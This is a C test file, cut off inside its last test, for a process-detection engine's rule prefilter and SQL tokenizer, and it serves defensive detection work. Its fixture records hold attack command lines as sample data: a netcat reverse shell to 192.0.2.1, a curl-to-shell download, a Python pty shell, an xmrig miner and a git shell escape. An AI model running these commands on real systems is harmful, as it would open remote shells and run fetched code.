/*
 * test_detect_prefilter.c — the exec path's prefilter (detect.c): the
 * rules that are plain filters of processes are tested together in one
 * statement per alias, and those that hold for no pid of a batch are not
 * run.  Every batch must give exactly what running each rule alone gives
 * (alerts, their rows and grouping, per-rule results), for the builtin
 * rules and for hand-written ones of every shape; a statement that fails
 * on a hostile process makes its rules run alone; the engine's counters
 * prove the prefilter really ran.  Also the tokenizer's verdicts
 * (sqltok.h).
 */
#include <dirent.h>
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "daemoneye/detect.h"
#include "daemoneye/fileio.h"
#include "daemoneye/rules.h"
#include "daemoneye/sigma.h"
#include "daemoneye/sqltok.h"
#include "daemoneye/store.h"

#define DE_TEST_NAME "detect_prefilter"
#include "testutil.h"
#include "detect_fixtures.h"

/* pids of the fixture's processes */
enum {
	P_MINER = 100,	 /* /tmp/xmrig, a stratum URL */
	P_NC = 101,	 /* nc -e */
	P_CURL = 102,	 /* curl | sh */
	P_PY = 103,	 /* python3 -c socket + pty.spawn */
	P_SSHD = 104,	 /* sshd from /home, root */
	P_LS = 105,	 /* nothing */
	P_HIDDEN = 106,	 /* /tmp/.hidden */
	P_SH = 107,	 /* sh, child of nginx */
	P_NGINX = 108,	 /* nginx */
	P_NOJSON = 109,	 /* command line that is not JSON */
	P_JSON = 110,	 /* command line {"a":1} */
	P_LONG = 111,	 /* a 5000-byte command line */
	P_QUOTE = 112,	 /* name it's) THEN */
	P_VICTIM = 113,	 /* after P_NOJSON: matched by "victim" */
	P_GIT = 114,	 /* git -p help */
	P_GITSH = 115,	 /* sh 0<&1, child of P_GIT: SigmaHQ's git shell escape */
	P_UNKNOWN = 9999 /* not in the store */
};

#define CONN_START 1700000000000LL /* the start time of the processes with connections */

static void record(struct de_process_record *r, uint32_t pid, uint32_t ppid, const char *name,
		   const char *exe, const char *cmd, const char *uid)
{
	fixture_record(r, pid, ppid, name, exe, cmd, uid, false);
}

static int setup(void **state)
{
	(void)state;
	struct de_store *store;
	struct de_error e = {0};
	struct de_process_record recs[16];
	char *longcmd = malloc(5001);

	if (!longcmd || tmpdir_make() < 0 || asprintf(&dbpath, "%s/events.sqlite", tmpdir) < 0)
		return -1;
	memset(longcmd, 'a', 5000);
	longcmd[5000] = '\0';
	struct de_store_config cfg = {.path = dbpath, .wal_mode = true};
	if (de_store_open(&cfg, &store, &e) < 0)
		return -1;
	record(&recs[0], P_MINER, 1, "xmrig", "/tmp/xmrig", "xmrig -o stratum+tcp://pool:3333",
	       "1000");
	record(&recs[1], P_NC, 1, "nc", "/usr/bin/nc", "nc -e /bin/sh 192.0.2.1 4444", "1000");
	record(&recs[2], P_CURL, 1, "bash", "/usr/bin/bash", "bash -c curl http://x | sh", "1000");
	record(&recs[3], P_PY, 1, "python3", "/usr/bin/python3",
	       "python3 -c import socket,pty; pty.spawn('/bin/sh')", "1000");
	record(&recs[4], P_SSHD, 1, "sshd", "/home/u/sshd", "sshd -D", "0");
	record(&recs[5], P_LS, 1, "ls", "/usr/bin/ls", "ls -la", "1000");
	record(&recs[6], P_HIDDEN, 1, ".hidden", "/tmp/.hidden", ".hidden", "1000");
	record(&recs[7], P_SH, P_NGINX, "sh", "/usr/bin/sh", "sh -c id", "33");
	record(&recs[8], P_NGINX, 1, "nginx", "/usr/sbin/nginx", "nginx", "0");
	record(&recs[9], P_NOJSON, 1, "nojson", "/usr/bin/nojson", "not json", "1000");
	record(&recs[10], P_JSON, 1, "json", "/usr/bin/json", "{\"a\":1}", "1000");
	record(&recs[11], P_LONG, 1, "cc", "/usr/bin/cc", longcmd, "1000");
	record(&recs[12], P_QUOTE, 1, "it's) THEN", "/usr/bin/q", "q", "1000");
	record(&recs[13], P_VICTIM, 1, "victim", "/usr/bin/victim", "victim", "1000");
	record(&recs[14], P_GIT, 1, "git", "/usr/bin/git", "git -p help config", "1000");
	record(&recs[15], P_GITSH, P_GIT, "sh", "/usr/bin/sh", "sh 0<&1", "1000");
	free(longcmd);
	/* the shell and python3 started at a known time: their connections
	   below name the instance (pid, start_time) */
	for (int i = 0; i < 16; i++) {
		if (recs[i].pid == P_SH || recs[i].pid == P_PY) {
			recs[i].has_start_time = true;
			recs[i].start_time = CONN_START;
		}
	}
	int rc = de_store_processes(store, recs[0].scan_id, recs, 16, &e);
	for (int i = 0; i < 16; i++)
		de_process_record_clear(&recs[i]);
	/* the shell holds an outbound connection to a mining pool's port,
	   python3 listens: the three connection rules' joins have rows */
	struct de_connection conns[2] = {
		{.pid = P_SH,
		 .start_time = CONN_START,
		 .kind = DE_CONN_CONNECT,
		 .family = 4,
		 .laddr = {10, 0, 0, 2},
		 .raddr = {192, 0, 2, 9},
		 .lport = 40000,
		 .rport = 4444,
		 .time_ms = CONN_START + 1000,
		 .from_scan = true},
		{.pid = P_PY,
		 .start_time = CONN_START,
		 .kind = DE_CONN_LISTEN,
		 .family = 4,
		 .lport = 8000,
		 .time_ms = CONN_START + 1000,
		 .from_scan = true},
	};
	if (rc == 0)
		rc = de_store_connections(store, conns, 2, CONN_START, &e);
	de_store_close(store);
	if (rc < 0 || !(val = de_validator_new()))
		return -1;
	de_validator_with_timeout(val, 5000);
	if (de_engine_open(dbpath, val, &eng, &e) < 0)
		return -1;
	/* valgrind is slow: no run may be judged by its time, but in
	   test_slow_falls_back */
	de_engine_with_prefilter_slow(eng, -1);
	return 0;
}

static void assert_same_alerts(const struct de_alert_list *a, const struct de_alert_list *b)
{
	assert_int_equal(a->len, b->len);
	for (size_t i = 0; i < a->len; i++) {
		const struct de_alert *x = &a->items[i], *y = &b->items[i];
		assert_string_equal(x->rule_id, y->rule_id);
		assert_string_equal(x->dedupe_key, y->dedupe_key);
		assert_string_equal(x->description, y->description);
		assert_int_equal(x->process_count, y->process_count);
		assert_int_equal(x->affected_processes_len, y->affected_processes_len);
		for (size_t k = 0; k < x->affected_processes_len; k++)
			assert_int_equal(x->affected_processes[k], y->affected_processes[k]);
		assert_int_equal(x->incomplete, y->incomplete);
		assert_true(json_equal(x->alert_data, y->alert_data));
	}
}

/*
 * Run rules[0..n) over pids alone (prefilter off), then with the prefilter
 * (on; the statements are cached by then, so it applies at once), and
 * compare everything.  The statements the prefilter run took: *stmts.
 */
static void run_both(const struct de_rule *rules, size_t n, const uint32_t *pids, size_t np,
		     uint64_t *stmts, uint64_t *skipped)
{
	struct de_alert_list alone = {0}, pre = {0};
	struct de_rule_result *ra = calloc(n, sizeof(*ra)), *rp = calloc(n, sizeof(*rp));
	struct de_engine_stats s0, s1;

	assert_non_null(ra);
	assert_non_null(rp);
	de_engine_with_prefilter(eng, false);
	int fa = de_engine_run_pids(eng, rules, n, pids, np, 7, &alone, ra);
	de_engine_with_prefilter(eng, true);
	de_engine_get_stats(eng, &s0);
	int fp = de_engine_run_pids(eng, rules, n, pids, np, 7, &pre, rp);
	de_engine_get_stats(eng, &s1);
	assert_int_equal(fa, fp);
	for (size_t i = 0; i < n; i++) {
		assert_string_equal(ra[i].rule_id, rp[i].rule_id);
		assert_int_equal(ra[i].ran, rp[i].ran);
		assert_int_equal(ra[i].status, rp[i].status);
		assert_int_equal(ra[i].rows, rp[i].rows);
		assert_int_equal(ra[i].alerts, rp[i].alerts);
		assert_true(rp[i].elapsed_us >= 0);
		if (ra[i].status < 0)
			assert_string_equal(ra[i].error.message, rp[i].error.message);
	}
	assert_same_alerts(&alone, &pre);
	if (stmts)
		*stmts = s1.statements - s0.statements;
	if (skipped)
		*skipped = s1.prefilter_skipped - s0.prefilter_skipped;
	de_alert_list_clear(&alone);
	de_alert_list_clear(&pre);
	free(ra);
	free(rp);
}

static const uint32_t all_pids[] = {P_MINER, P_NC,    P_CURL, P_PY,   P_SSHD,  P_LS,	 P_HIDDEN,
				    P_SH,    P_NGINX, P_JSON, P_LONG, P_QUOTE, P_VICTIM, P_UNKNOWN};

/* The builtin rules: each process alone, a quiet batch, everything at once. */
static void test_builtin_rules_agree(void **state)
{
	(void)state;
	struct de_rule_set set = {0};
	struct de_rule_problems pr = {0};
	struct de_error e = {0};
	struct de_engine_stats s0, s1;
	uint64_t stmts, skipped;
	size_t per_rule = 0, joins = 0;

	assert_int_equal(de_rules_load_builtin(val, &set, &pr, &e), 0);
	for (size_t i = 0; i < set.len; i++) {
		per_rule += set.items[i].enabled;
		/* the rules over two tables run alone; all others are plain */
		joins += set.items[i].enabled && strstr(set.items[i].sql_query, "JOIN ");
	}
	assert_true(per_rule >= 20);
	de_engine_get_stats(eng, &s0);
	for (size_t p = 0; p < sizeof(all_pids) / sizeof(all_pids[0]); p++)
		run_both(set.items, set.len, &all_pids[p], 1, NULL, NULL);
	uint32_t quiet[] = {P_LS, P_JSON, P_UNKNOWN, P_NGINX};
	run_both(set.items, set.len, quiet, 4, &stmts, &skipped);
	/* a quiet batch: every rule answered by the prefilter, the plain ones
	   in one statement, the joins in one per FROM clause (the parent's,
	   the connections') */
	assert_int_equal(skipped, per_rule);
	assert_true(joins >= 5);
	assert_int_equal(stmts, 1 + 2);
	run_both(set.items, set.len, all_pids, sizeof(all_pids) / sizeof(all_pids[0]), NULL, NULL);
	/* the joins' prefilter had rows to find: each join rule raised */
	struct de_alert_list alerts = {0};
	static const char *const raised[] = {"webserver-spawns-shell", "shell-outbound-connection",
					     "interpreter-listening", "mining-pool-port"};
	assert_int_equal(de_engine_run_pids(eng, set.items, set.len, all_pids,
					    sizeof(all_pids) / sizeof(all_pids[0]), 7, &alerts,
					    NULL),
			 0);
	for (size_t r = 0; r < sizeof(raised) / sizeof(raised[0]); r++) {
		bool found = false;
		for (size_t i = 0; i < alerts.len; i++)
			found = found || strcmp(alerts.items[i].rule_id, raised[r]) == 0;
		if (!found)
			fail_msg("%s not raised", raised[r]);
	}
	de_alert_list_clear(&alerts);
	de_engine_get_stats(eng, &s1);
	assert_true(s1.prefilter_runs > s0.prefilter_runs);
	assert_int_equal(s1.prefilter_fallbacks, s0.prefilter_fallbacks);
	de_rule_set_clear(&set);
	de_rule_problems_clear(&pr);
}

/* Hand-written rules of every shape, eligible or not. */
static const char *const shapes[][2] = {
	{"plain", "SELECT pid, name, executable_path FROM processes WHERE name = 'xmrig'"},
	{"alias", "SELECT p.pid, p.name FROM processes AS p WHERE p.name IN ('nc', 'a', 'b')"},
	{"alias-bare", "SELECT q.pid, q.name FROM processes q WHERE q.executable_path LIKE "
		       "'/tmp/%'"},
	{"main", "SELECT pid, name FROM main.processes WHERE user_id = '0'"},
	{"main-alias", "select m.pid, m.name from MAIN.processes m where m.name = 'sh'"},
	{"comment-end", "SELECT pid, name FROM processes WHERE name = 'ls' -- the end"},
	{"comment-block", "SELECT pid, name FROM processes WHERE /* ) THEN 0 */ name = 'cc';"},
	{"then-string", "SELECT pid, name FROM processes WHERE name = 'it''s) THEN'"},
	{"then-string-no", "SELECT pid, name FROM processes WHERE name = ') THEN 1 ELSE 0 END, 1'"},
	{"subquery", "SELECT c.pid, c.name FROM processes c WHERE c.ppid IN (SELECT p.pid "
		     "FROM processes p WHERE p.name = 'nginx')"},
	{"exists", "SELECT pid, name FROM processes WHERE EXISTS (SELECT 1 FROM processes x "
		   "WHERE x.ppid = processes.pid)"},
	{"distinct-from", "SELECT pid, name FROM processes WHERE name IS NOT DISTINCT FROM "
			  "'python3'"},
	{"quoted-cols", "SELECT \"pid\", [name] FROM processes WHERE `name` = 'bash'"},
	{"json", "SELECT pid, name FROM processes WHERE json_extract(platform_data, "
		 "'$.exe_deleted') = 0 AND name = 'json'"},
	{"group-by", "SELECT pid, name, count(*) AS n FROM processes WHERE name = 'xmrig' "
		     "GROUP BY pid"},
	{"limit", "SELECT pid, name FROM processes WHERE name = 'nc' LIMIT 5"},
	{"distinct", "SELECT DISTINCT pid, name FROM processes WHERE name = 'sshd'"},
	{"union", "SELECT pid, name FROM processes WHERE name = 'ls' UNION SELECT pid, name "
		  "FROM processes WHERE name = 'cc'"},
	{"order", "SELECT pid, name FROM processes WHERE name = 'sh' ORDER BY pid"},
	{"join", "SELECT c.pid, c.name FROM processes c JOIN processes p ON p.pid = c.ppid "
		 "WHERE p.name = 'nginx'"},
	{"join-parent", "SELECT p.pid, p.name, c.name AS child FROM processes c JOIN processes p "
			"ON p.pid = c.ppid WHERE c.name IN ('sh', 'bash', 'zsh')"},
	{"join-left", "SELECT c.pid, c.name FROM processes c LEFT JOIN processes p ON p.pid = "
		      "c.ppid WHERE p.pid IS NULL AND c.name IN ('ls', 'nc', 'cc')"},
	{"join-as-pid", "SELECT c.ppid AS pid, c.name FROM processes c JOIN processes p ON p.pid "
			"= c.ppid WHERE c.name = 'sh'"},
	{"join-implicit", "SELECT c.ppid pid, c.pid, c.name FROM processes c JOIN processes p ON "
			  "p.pid = c.ppid WHERE c.name = 'sh'"},
	{"join-star", "SELECT * FROM processes c JOIN processes p ON p.pid = c.ppid WHERE "
		      "p.name = 'nginx'"},
	{"join-comma", "SELECT a.pid, a.name FROM processes a, processes b WHERE b.pid = a.ppid "
		       "AND b.user_id = '0' AND a.name IN ('sh', 'nc', 'xmrig')"},
	{"with", "WITH x AS (SELECT pid, name FROM processes) SELECT pid, name FROM x WHERE "
		 "name = 'ls'"},
	{"result-alias", "SELECT pid, length(command_line) AS cl FROM processes WHERE cl > 4096"},
	{"pid-not-pid", "SELECT ppid AS pid, name FROM processes WHERE name = 'sh'"},
	{"no-pid", "SELECT name FROM processes WHERE name = 'ls'"},
	{"broken", "SELECT pid FROM processes WHERE nosuchcolumn = 1"},
};
#define NSHAPES (sizeof(shapes) / sizeof(shapes[0]))

static void shape_rules(struct de_rule *rules)
{
	for (size_t i = 0; i < NSHAPES; i++)
		rules[i] = mkrule(shapes[i][0], shapes[i][1]);
}

static void test_shapes_agree(void **state)
{
	(void)state;
	struct de_rule rules[NSHAPES];
	struct de_engine_stats s0, s1;
	uint64_t stmts, skipped;

	shape_rules(rules);
	de_engine_get_stats(eng, &s0);
	for (size_t p = 0; p < sizeof(all_pids) / sizeof(all_pids[0]); p++)
		run_both(rules, NSHAPES, &all_pids[p], 1, NULL, NULL);
	run_both(rules, NSHAPES, all_pids, sizeof(all_pids) / sizeof(all_pids[0]), NULL, NULL);
	uint32_t two[] = {P_SH, P_LS};
	run_both(rules, NSHAPES, two, 2, NULL, NULL);
	/* P_UNKNOWN alone: every eligible rule answered by its FROM clause's
	   statement: plain, main, comment-*, then-string*, exists,
	   distinct-from, quoted-cols and json (no alias; result-alias, which
	   will not prepare outside its own statement, left out of it), alias,
	   alias-bare, main-alias, subquery: 5 statements for 14 rules; the
	   joins one each (join and join-left differ in their FROM,
	   join-parent and join-as-pid in their pid, p.pid and c.ppid; and
	   join-comma); the other 10 pid rules alone (group-by, limit,
	   distinct, union, order, with, result-alias, pid-not-pid; join-implicit,
	   whose pid is not the reference sqltok saw, and join-star, which has
	   no list to look in; no-pid is not a pid rule, broken fails) */
	uint32_t none = P_UNKNOWN;
	run_both(rules, NSHAPES, &none, 1, &stmts, &skipped);
	assert_int_equal(skipped, 19);
	assert_int_equal(stmts, 5 + 5 + 10);
	de_engine_get_stats(eng, &s1);
	assert_int_equal(s1.prefilter_fallbacks, s0.prefilter_fallbacks);
}

/*
 * A process on which one rule's expression fails (json_extract of a
 * command line that is not JSON) makes the prefilter's statement fail: its
 * rules run alone for that batch, so the failing rule fails as it would
 * have, and the other rules still see every process of the batch (the
 * victim comes after the hostile process, so a prefilter that trusted its
 * partial answer would miss it).
 */
static void test_failure_falls_back(void **state)
{
	(void)state;
	struct de_rule rules[3];
	struct de_alert_list alerts = {0};
	struct de_rule_result res[3];
	struct de_engine_stats s0, s1;
	uint32_t batch[] = {P_LS, P_NOJSON, P_VICTIM};

	rules[0] = mkrule("json-a", "SELECT pid, name FROM processes WHERE json_extract("
				    "command_line, '$.a') = 1");
	rules[1] = mkrule("victim", "SELECT pid, name FROM processes WHERE name = 'victim'");
	rules[2] = mkrule("quiet", "SELECT pid, name FROM processes WHERE name = 'nobody'");
	/* cached, and the prefilter built, on a harmless batch first */
	uint32_t json = P_JSON;
	run_both(rules, 3, &json, 1, NULL, NULL);
	de_engine_get_stats(eng, &s0);
	assert_int_equal(de_engine_run_pids(eng, rules, 3, batch, 3, 8, &alerts, res), 1);
	de_engine_get_stats(eng, &s1);
	/* the victim's alert first: what a missing fallback would lose */
	assert_int_equal(alerts.len, 1);
	assert_string_equal(alerts.items[0].rule_id, "victim");
	assert_int_equal(alerts.items[0].affected_processes[0], P_VICTIM);
	assert_int_equal(res[1].status, 0);
	assert_int_equal(res[1].rows, 1);
	assert_true(res[0].status < 0);
	assert_non_null(strstr(res[0].error.message, "JSON"));
	assert_int_equal(s1.prefilter_runs, s0.prefilter_runs + 1);
	assert_int_equal(s1.prefilter_fallbacks, s0.prefilter_fallbacks + 1);
	assert_int_equal(s1.prefilter_skipped, s0.prefilter_skipped);
	assert_int_equal(s1.statements, s0.statements + 1 + 3);
	de_alert_list_clear(&alerts);
	/* and the same as each rule alone */
	run_both(rules, 3, batch, 3, NULL, NULL);
}

/* A run judged slow is inconclusive: every rule runs alone, with its own
   time only, and the results are the same. */
static void test_slow_falls_back(void **state)
{
	(void)state;
	struct de_rule rules[3];
	struct de_alert_list alerts = {0};
	struct de_rule_result res[3];
	struct de_engine_stats s0, s1;
	uint32_t batch[] = {P_LS, P_MINER};

	rules[0] = mkrule("s-miner", "SELECT pid, name FROM processes WHERE name = 'xmrig'");
	rules[1] = mkrule("s-nc", "SELECT pid, name FROM processes WHERE name = 'nc'");
	rules[2] = mkrule("s-ls", "SELECT pid, name FROM processes WHERE name = 'ls'");
	run_both(rules, 3, batch, 2, NULL, NULL);
	de_engine_with_prefilter_slow(eng, 0); /* every run is slow */
	de_engine_get_stats(eng, &s0);
	assert_int_equal(de_engine_run_pids(eng, rules, 3, batch, 2, 8, &alerts, res), 0);
	de_engine_get_stats(eng, &s1);
	assert_int_equal(s1.prefilter_fallbacks - s0.prefilter_fallbacks, 1);
	assert_int_equal(s1.prefilter_skipped, s0.prefilter_skipped);
	assert_int_equal(s1.statements - s0.statements, 1 + 3);
	assert_int_equal(alerts.len, 2);
	assert_true(res[1].ran);
	de_alert_list_clear(&alerts);
	run_both(rules, 3, batch, 2, NULL, NULL);
	de_engine_with_prefilter_slow(eng, -1);
}

/*
 * The counters: a quiet batch takes one statement for all the plain
 * rules; a matching one, that statement and the matching rule's own run.
 * Skipped rules report ran, no rows, no alerts.  A rule set that changes
 * (a rule disabled) rebuilds the prefilter, once.
 */
static void test_counts_prove_it_ran(void **state)
{
	(void)state;
	struct de_rule rules[4];
	struct de_alert_list alerts = {0};
	struct de_rule_result res[4];
	struct de_engine_stats s0, s1;
	uint32_t quiet[] = {P_LS, P_JSON, P_UNKNOWN};
	uint32_t hit[] = {P_LS, P_MINER};

	rules[0] = mkrule("c-miner", "SELECT pid, name FROM processes WHERE name = 'xmrig'");
	rules[1] = mkrule("c-nc", "SELECT pid, name FROM processes WHERE name = 'nc'");
	rules[2] = mkrule("c-tmp", "SELECT p.pid, p.name FROM processes p WHERE "
				   "p.executable_path LIKE '/tmp/%'");
	rules[3] = mkrule("c-sshd", "SELECT pid, name FROM processes WHERE name IN ('sshd', "
				    "'cron', 'atd', 'init')");
	run_both(rules, 4, quiet, 3, NULL, NULL); /* cached and built */

	de_engine_get_stats(eng, &s0);
	assert_int_equal(de_engine_run_pids(eng, rules, 4, quiet, 3, 9, &alerts, res), 0);
	de_engine_get_stats(eng, &s1);
	assert_int_equal(s1.statements - s0.statements, 2); /* two aliases */
	assert_int_equal(s1.prefilter_skipped - s0.prefilter_skipped, 4);
	assert_int_equal(s1.prefilter_builds, s0.prefilter_builds);
	assert_int_equal(alerts.len, 0);
	for (int i = 0; i < 4; i++) {
		assert_true(res[i].ran);
		assert_int_equal(res[i].status, 0);
		assert_int_equal(res[i].rows, 0);
		assert_int_equal(res[i].alerts, 0);
	}

	de_engine_get_stats(eng, &s0);
	assert_int_equal(de_engine_run_pids(eng, rules, 4, hit, 2, 9, &alerts, res), 0);
	de_engine_get_stats(eng, &s1);
	assert_int_equal(s1.statements - s0.statements, 2 + 2); /* c-miner and c-tmp ran */
	assert_int_equal(alerts.len, 2);
	assert_int_equal(res[0].rows, 1);
	assert_int_equal(res[2].rows, 1);
	de_alert_list_clear(&alerts);

	/* a rule disabled: rebuilt once, then stable */
	rules[2].enabled = false;
	de_engine_get_stats(eng, &s0);
	for (int round = 0; round < 3; round++) {
		assert_int_equal(de_engine_run_pids(eng, rules, 4, quiet, 3, 9, &alerts, res), 0);
		assert_false(res[2].ran);
	}
	de_engine_get_stats(eng, &s1);
	assert_int_equal(s1.prefilter_builds - s0.prefilter_builds, 1);
	assert_int_equal(s1.statements - s0.statements, 3);
	assert_int_equal(s1.prefilter_skipped - s0.prefilter_skipped, 9);

	/* off: each rule runs alone */
	de_engine_with_prefilter(eng, false);
	de_engine_get_stats(eng, &s0);
	assert_int_equal(de_engine_run_pids(eng, rules, 4, quiet, 3, 9, &alerts, res), 0);
	de_engine_get_stats(eng, &s1);
	de_engine_with_prefilter(eng, true);
	assert_int_equal(s1.statements - s0.statements, 3);
	assert_int_equal(s1.prefilter_runs, s0.prefilter_runs);
}

/* The tokenizer's verdicts, and where it finds the parts. */
static void test_sqltok_shapes(void **state)
{
	(void)state;
	struct de_sql_filter f;
	static const char *const no[] = {
		"",
		"SELECT",
		"SELECT pid FROM processes",
		"SELECT pid FROM processes WHERE",
		"SELECT pid FROM processes WHERE name = 'x' /* open",
		"SELECT pid FROM processes WHERE name = 'x",
		"SELECT pid FROM processes WHERE name = \"x",
		"SELECT pid FROM processes WHERE name = [x",
		"SELECT pid FROM processes WHERE (name = 'x'",
		"SELECT pid FROM processes WHERE name = 'x')",
		"SELECT pid FROM processes WHERE name = ?",
		"SELECT pid FROM processes WHERE name = $a(')",
		"SELECT pid FROM processes WHERE name = :n",
		"SELECT pid FROM processes WHERE name = 'x'; SELECT 1",
		"SELECT pid FROM processes WHERE name = 'x' GROUP BY pid",
		"SELECT pid FROM processes WHERE name = 'x' group by pid",
		"SELECT pid FROM processes WHERE name = 'x' HAVING 1",
		"SELECT pid FROM processes WHERE name = 'x' ORDER BY 1",
		"SELECT pid FROM processes WHERE name = 'x' LIMIT 1",
		"SELECT pid FROM processes WHERE name = 'x' UNION SELECT 1",
		"SELECT pid FROM processes WHERE name = 'x' EXCEPT SELECT 1",
		"SELECT pid FROM processes WHERE name = 'x' WINDOW w AS ()",
		"SELECT DISTINCT pid FROM processes WHERE name = 'x'",
		"WITH a AS (SELECT 1) SELECT pid FROM processes WHERE name = 'x'",
		"SELECT pid FROM processes p JOIN x ON random() WHERE name = 'x'",
		"SELECT pid FROM processes p JOIN x ON x.t > CURRENT_TIME WHERE name = 'x'",
		"SELECT pid FROM processes p JOIN x ON x.a = ? WHERE name = 'x'",
		"SELECT pid FROM processes p JOIN (x WHERE name = 'x'",
		"SELECT pid FROM processes GROUP BY pid WHERE name = 'x'",
		"SELECT pid FROM processes",
		"SELECT pid, FROM processes WHERE a",
		"SELECT pid FROM processes WHERE start_time > unixepoch('now')",
		"SELECT pid FROM processes WHERE start_time > CURRENT_TIMESTAMP",
		"SELECT pid FROM processes WHERE random() > 0",
		"SELECT pid FROM processes WHERE \"count\"(1) > 0",
		"VALUES (1)",
	};
	for (size_t i = 0; i < sizeof(no) / sizeof(no[0]); i++) {
		if (de_sqltok_filter(no[i], strlen(no[i]), &f) != -EINVAL)
			fail_msg("accepted: %s", no[i]);
	}
	static const char *const yes[][3] = {
		/* text, alias, expression */
		{"SELECT pid FROM processes WHERE name = 'x'", "", "name = 'x'"},
		{"  select ALL pid from Processes where a -- c\n", "", "a"},
		{"SELECT pid FROM processes AS p WHERE p.a = 1;", "p", "p.a = 1"},
		{"SELECT pid FROM main.processes \"P\" WHERE \"P\".a = 1 ; -- x", "\"P\"",
		 "\"P\".a = 1"},
		{"SELECT pid, a IS DISTINCT FROM b AS d FROM processes WHERE a IS NOT DISTINCT "
		 "FROM b",
		 "", "a IS NOT DISTINCT FROM b"},
		{"SELECT pid FROM processes WHERE name = ') THEN 1 ELSE 0 END FROM x --'", "",
		 "name = ') THEN 1 ELSE 0 END FROM x --'"},
		{"SELECT pid FROM processes WHERE a IN (SELECT b FROM c GROUP BY b LIMIT 1) /* x "
		 "*/",
		 "", "a IN (SELECT b FROM c GROUP BY b LIMIT 1)"},
		{"SELECT (SELECT 1 FROM x WHERE y), pid FROM processes WHERE lower(name) LIKE 'a%'",
		 "", "lower(name) LIKE 'a%'"},
	};
	for (size_t i = 0; i < sizeof(yes) / sizeof(yes[0]); i++) {
		const char *s = yes[i][0];
		if (de_sqltok_filter(s, strlen(s), &f) != 0 || !f.simple)
			fail_msg("refused: %s", s);
		assert_int_equal(f.alias_len, strlen(yes[i][1]));
		assert_memory_equal(s + f.alias_off, yes[i][1], f.alias_len);
		assert_int_equal(f.expr_len, strlen(yes[i][2]));
		assert_memory_equal(s + f.expr_off, yes[i][2], f.expr_len);
	}
	/* any other FROM: where it is, and the select list's pid */
	static const struct {
		const char *sql, *from, *expr, *pid;
		int items, pid_item;
	} other[] = {
		{"SELECT pid FROM processes, x WHERE name = 'x'", "processes, x", "name = 'x'",
		 "pid", 1, 0},
		{"SELECT a, p.pid FROM processes p JOIN x USING (pid) WHERE p.n IS NOT DISTINCT "
		 "FROM x.n",
		 "processes p JOIN x USING (pid)", "p.n IS NOT DISTINCT FROM x.n", "p.pid", 2, 1},
		{"SELECT c.ppid AS \"PID\", c.pid FROM main.processes c JOIN processes p ON "
		 "(p.a IS DISTINCT FROM c.a) WHERE 1",
		 "main.processes c JOIN processes p ON (p.a IS DISTINCT FROM c.a)", "1", "c.ppid",
		 2, 0},
		{"SELECT lower(pid) AS pid, x.pid FROM network_connections x WHERE 1",
		 "network_connections x", "1", "x.pid", 2, 1},
		{"SELECT c.ppid pid FROM processes INDEXED BY i WHERE 1", "processes INDEXED BY i",
		 "1", NULL, 1, -1},
		{"SELECT *, pid FROM temp.processes WHERE 1", "temp.processes", "1", "pid", -1, 1},
		{"SELECT c.* FROM processes c JOIN processes p ON p.pid = c.ppid WHERE 1",
		 "processes c JOIN processes p ON p.pid = c.ppid", "1", NULL, -1, -1},
	};
	for (size_t i = 0; i < sizeof(other) / sizeof(other[0]); i++) {
		const char *s = other[i].sql;
		if (de_sqltok_filter(s, strlen(s), &f) != 0 || f.simple)
			fail_msg("not a filter over another FROM: %s", s);
		assert_int_equal(f.alias_len, 0);
		assert_int_equal(f.from_len, strlen(other[i].from));
		assert_memory_equal(s + f.from_off, other[i].from, f.from_len);
		assert_int_equal(f.expr_len, strlen(other[i].expr));
		assert_memory_equal(s + f.expr_off, other[i].expr, f.expr_len);
		assert_int_equal(f.items, other[i].items);
		assert_int_equal(f.pid_item, other[i].pid_item);
		if (other[i].pid) {
			assert_int_equal(f.pid_len, strlen(other[i].pid));
			assert_memory_equal(s + f.pid_off, other[i].pid, f.pid_len);
		}
	}
}

/*
 * SigmaHQ's Linux process_creation rules as the Sigma compiler writes them
 * (tests/sigma/sigmahq: regexp() over the columns, the parent as a LEFT
 * JOIN): the same answers with the prefilter, one of them raised (the git
 * shell escape, whose parent the fixture has), and most of them answered
 * by the prefilter on a quiet batch.
 */
static void test_sigma_rules_agree(void **state)
{
	(void)state;
	const char *src = getenv("DE_SOURCE_DIR");
	char dir[4096];
	struct de_sigma_rule *sr = calloc(256, sizeof(*sr));
	struct de_rule *rules = calloc(256, sizeof(*rules));
	struct de_alert_list alerts = {0};
	size_t n = 0, joins = 0;
	uint64_t stmts, skipped;
	struct dirent *d;
	DIR *dp;

	assert_non_null(sr);
	assert_non_null(rules);
	snprintf(dir, sizeof(dir), "%s/tests/sigma/sigmahq/linux-process_creation",
		 src ? src : ".");
	assert_non_null(dp = opendir(dir));
	while ((d = readdir(dp)) && n < 256) {
		char path[8192], *text = NULL;
		size_t len = 0;
		struct de_error e = {0};
		if (!strstr(d->d_name, ".yml"))
			continue;
		snprintf(path, sizeof(path), "%s/%s", dir, d->d_name);
		assert_int_equal(de_read_file(path, 1 << 20, &text, &len, NULL), 0);
		if (de_sigma_convert(text, len, d->d_name, NULL, val, &sr[n], &e) == 0) {
			rules[n] = sr[n].rule;
			joins += strstr(rules[n].sql_query, " JOIN ") != NULL;
			n++;
		}
		free(text);
	}
	closedir(dp);
	assert_true(n >= 100);
	assert_true(joins >= 5);
	uint32_t sigma_pids[] = {P_GIT,	 P_GITSH, P_SH, P_NGINX,  P_PY,
				 P_CURL, P_NC,	  P_LS, P_UNKNOWN};
	size_t np = sizeof(sigma_pids) / sizeof(sigma_pids[0]);
	for (size_t p = 0; p < np; p++)
		run_both(rules, n, &sigma_pids[p], 1, NULL, NULL);
	run_both(rules, n, sigma_pids, np, NULL, NULL);
	/* the git shell escape is raised, for the child */
	assert_int_equal(de_engine_run_pids(eng, rules, n, sigma_pids, np, 7, &alerts, NULL), 0);
	bool git = false;
	for (size_t i = 0; i < alerts.len; i++)
		git = git || (alerts.items[i].affected_processes_len == 1 &&
			      alerts.items[i].affected_processes[0] == P_GITSH);
	assert_true(git);
	de_alert_list_clear(&alerts);
	/* a quiet batch: all but a few answered by the prefilter */
	uint32_t quiet = P_LS;
	run_both(rules, n, &quiet, 1, &stmts, &skipped);
	assert_true(skipped + 10 >= n);
	assert_true(stmts <= 12);
	for (size_t i = 0; i < n; i++)
		de_sigma_rule_clear(&sr[i]);
	free(sr);
	free(rules);
}

/* Where the tokenizer finds the lists of literals after IN. */
static void test_sqltok_in_lists(void **state)
{
	(void)state;
	struct de_sql_inlist in[4];
	/* text, then the first element of each list found (at most 3) */
